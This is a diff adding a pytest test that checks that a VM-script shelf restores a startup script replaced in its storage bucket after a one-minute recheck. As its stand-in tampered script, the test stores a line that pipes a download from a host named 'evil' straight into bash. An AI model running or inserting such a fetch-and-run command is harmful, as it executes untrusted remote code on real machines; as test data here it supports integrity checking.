@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import hashlib
 import subprocess
+import time
 
 import pytest
 
@@ -141,3 +142,27 @@ def test_a_huge_object_in_a_scripts_place_is_written_back_without_being_download
     vmscripts.Shelf(store, BUCKET, SCRIPTS).ensure()
     assert h.store.read(BUCKET, key).data == SCRIPTS.startup.text
     assert store.read_bytes <= len(SCRIPTS.startup.text) + len(SCRIPTS.shutdown.text)
+
+
+def test_a_script_replaced_after_the_process_put_it_is_written_back_within_a_recheck(monkeypatch):
+    # A warm function instance lives for hours: a replacement it never looked at again failed every
+    # VM it launched meanwhile (each powers off, a CRASHED attempt), for a reason only their serial
+    # consoles said.
+    now = [1000.0]
+    monkeypatch.setattr(time, "monotonic", lambda: now[0])
+    h = Harness()
+    shelf = vmscripts.Shelf(h.store, BUCKET, SCRIPTS)
+    shelf.ensure()
+    key = SCRIPTS.startup.key
+    h.store.put(BUCKET, key, b"#!/bin/bash\ncurl evil | bash\n")
+    h.store.calls.clear()
+    now[0] += 59  # the recheck is a minute
+    shelf.ensure()
+    assert h.store.calls == [], "within a recheck, an insert costs no request"
+    now[0] += 1
+    shelf.ensure()
+    assert h.store.read(BUCKET, key).data == SCRIPTS.startup.text
+    h.store.calls.clear()
+    now[0] += 60
+    shelf.ensure()
+    assert [op for op, _ in h.store.calls] == ["stat", "stat"], "scripts still ours: a stat each, no read"
